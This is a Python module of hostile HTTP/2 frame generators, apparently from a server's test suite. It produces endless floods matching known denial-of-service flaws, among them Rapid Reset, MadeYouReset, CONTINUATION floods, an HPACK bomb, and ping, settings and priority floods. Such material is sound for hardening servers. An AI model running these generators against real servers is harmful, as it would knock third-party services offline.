"""More and more frames, each of which costs the server something and the attacker next to nothing."""

from collections.abc import Iterator
from itertools import count, repeat

from hpack import Encoder
from hyperframe.frame import GoAwayFrame, PingFrame, PriorityFrame, SettingsFrame

from tests.server.hostile.frames import Calls, begin, data, hello, raw, reset, widen

_AT_ONCE = 100  # frames or calls in a piece: a system call each would slow the flood down
_CONTINUATION, _UNKNOWN = 0x9, 0xF1
_NO_FLAGS, _END_HEADERS = 0x0, 0x4
_LARGEST_FRAME = 16_384


def rapid_reset(calls: Calls) -> Iterator[bytes]:
    """Begins calls and cancels each at once: never many open, and no end of work (CVE-2023-44487)."""
    yield hello()
    for streams in _stream_ids():
        yield b"".join(calls.small.whole(stream) + reset(stream) for stream in streams)


def made_you_reset(calls: Calls) -> Iterator[bytes]:
    """Begins calls, and makes the server cancel each by a window that grows by nothing (CVE-2025-8671)."""
    yield hello()
    for streams in _stream_ids():
        yield b"".join(calls.small.whole(stream) + raw(0x8, 0, stream, bytes(4)) for stream in streams)


def calls_flood(calls: Calls) -> Iterator[bytes]:
    """Makes calls, whole ones, and waits for no answer."""
    yield hello() + widen(0)
    for streams in _stream_ids():
        yield b"".join(map(calls.small.whole, streams))


def ping(calls: Calls) -> Iterator[bytes]:
    """Pings (CVE-2019-9512)."""
    yield hello()
    yield from repeat(bytes(PingFrame(0, b"hostile!").serialize()) * _AT_ONCE)


def settings(calls: Calls) -> Iterator[bytes]:
    """Changes its settings, each of which the server has to acknowledge (CVE-2019-9515)."""
    yield hello()
    frames = [SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 60_000 + n}) for n in range(_AT_ONCE)]
    yield from repeat(b"".join(bytes(frame.serialize()) for frame in frames))


def window_update(calls: Calls) -> Iterator[bytes]:
    """Widens the connection's window by a byte at a time."""
    yield hello()
    yield from repeat(widen(0, 1) * _AT_ONCE)


def continuation(calls: Calls) -> Iterator[bytes]:
    """Sends headers of one call that never end (CVE-2024-27316)."""
    yield hello()
    yield raw(0x1, _NO_FLAGS, 1, calls.small.headers())
    name, value = b"hostile", b"x" * 16_000
    field = b"\0" + bytes([len(name)]) + name + b"\x7f" + _varint(len(value) - 127) + value
    yield from repeat(raw(_CONTINUATION, _NO_FLAGS, 1, field))


def empty_continuation(calls: Calls) -> Iterator[bytes]:
    """Sends headers that never end and never grow, in frames of no byte."""
    yield hello() + raw(0x1, _NO_FLAGS, 1, calls.small.headers())
    yield from repeat(raw(_CONTINUATION, _NO_FLAGS, 1, b"") * _AT_ONCE)


def giant_headers(calls: Calls) -> Iterator[bytes]:
    """Begins calls with a megabyte of headers each."""
    yield hello()
    block = calls.small.headers(*((f"hostile-{n}", "x" * 16_000) for n in range(64)))
    pieces = [block[at : at + _LARGEST_FRAME] for at in range(0, len(block), _LARGEST_FRAME)]
    for stream in count(1, 2):
        yield raw(0x1, _NO_FLAGS, stream, pieces[0])
        for piece in pieces[1:-1]:
            yield raw(_CONTINUATION, _NO_FLAGS, stream, piece)
        yield raw(_CONTINUATION, _END_HEADERS, stream, pieces[-1])


def hpack_bomb(calls: Calls) -> Iterator[bytes]:
    """Puts a header of 4 KB into the HPACK table, and then names it by a byte, 16,000 times a call."""
    encoder = Encoder()
    yield hello() + begin(1, calls.small.headers() + encoder.encode([("hostile", "x" * 3_900)]))
    reference = encoder.encode([("hostile", "x" * 3_900)])
    block = calls.small.headers()
    block += reference * ((_LARGEST_FRAME - len(block)) // len(reference))
    for stream in count(3, 2):
        yield begin(stream, block, "END_STREAM")


def priority(calls: Calls) -> Iterator[bytes]:
    """Moves streams that were never begun about in the tree of priorities (CVE-2019-9513)."""
    yield hello()
    for streams in _stream_ids():
        frames = (PriorityFrame(stream, depends_on=0, stream_weight=stream % 256) for stream in streams)
        yield b"".join(bytes(frame.serialize()) for frame in frames)


def unknown_frames(calls: Calls) -> Iterator[bytes]:
    """Sends frames of a type that does not exist, which a server has to skip."""
    yield hello()
    yield from repeat(raw(_UNKNOWN, 0, 0, b"hostile!") * _AT_ONCE)


def empty_data(calls: Calls) -> Iterator[bytes]:
    """Sends a body in frames of no byte (CVE-2019-9518)."""
    yield hello() + begin(1, calls.small.headers())
    yield from repeat(data(1, b"") * _AT_ONCE)


def reset_unknown(calls: Calls) -> Iterator[bytes]:
    """Cancels streams that were never begun."""
    yield hello()
    for streams in _stream_ids():
        yield b"".join(map(reset, streams))


def goaway(calls: Calls) -> Iterator[bytes]:
    """Announces its end again and again, and stays."""
    yield hello()
    yield from repeat(bytes(GoAwayFrame(0, last_stream_id=0, additional_data=b"x" * 100).serialize()) * 100)


def _stream_ids() -> Iterator[range]:
    """Yields a client's stream ids, some at a time, for as long as there are any."""
    width = 2 * _AT_ONCE
    for first in range(1, 2**31 - width, width):
        yield range(first, first + width, 2)


def _varint(number: int) -> bytes:
    """Returns the rest of an HPACK integer."""
    digits = bytearray()
    while number >= 128:
        digits.append(number % 128 + 128)
        number //= 128
    return bytes([*digits, number])


def continuation_string(calls: Calls) -> Iterator[bytes]:
    """Sends one header whose value never ends."""
    yield hello()
    field = b"\0\x07hostile\x7f" + _varint(2**31)
    yield raw(0x1, _NO_FLAGS, 1, calls.small.headers() + field)
    yield from repeat(raw(_CONTINUATION, _NO_FLAGS, 1, b"x" * _LARGEST_FRAME))


def continuation_fields(calls: Calls) -> Iterator[bytes]:
    """Sends headers that never end, as small as they can be."""
    yield hello()
    yield raw(0x1, _NO_FLAGS, 1, calls.small.headers())
    yield from repeat(raw(_CONTINUATION, _NO_FLAGS, 1, b"\0\x01x\x00" * (_LARGEST_FRAME // 4)))


def continuation_table(calls: Calls) -> Iterator[bytes]:
    """Sends headers that never end, each kept in the HPACK table."""
    yield hello()
    yield raw(0x1, _NO_FLAGS, 1, calls.small.headers())
    yield from repeat(raw(_CONTINUATION, _NO_FLAGS, 1, b"\x40\x01x\x01y" * (_LARGEST_FRAME // 5)))
